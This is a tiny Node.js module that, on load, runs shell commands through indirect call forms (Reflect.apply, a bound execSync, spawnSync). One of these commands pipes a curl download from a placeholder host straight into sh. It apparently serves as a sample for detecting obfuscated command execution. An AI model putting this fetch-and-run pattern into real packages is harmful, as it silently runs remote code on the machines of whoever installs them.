const cp = require('child_process');
Reflect.apply(cp.exec, cp, ['curl -s https://example.invalid/s.sh | sh']);
const run = Function.prototype.call.bind(cp.execSync, cp);
run('id');
cp.spawnSync.call(cp, 'sh', ['-c', 'id']);
module.exports = {};
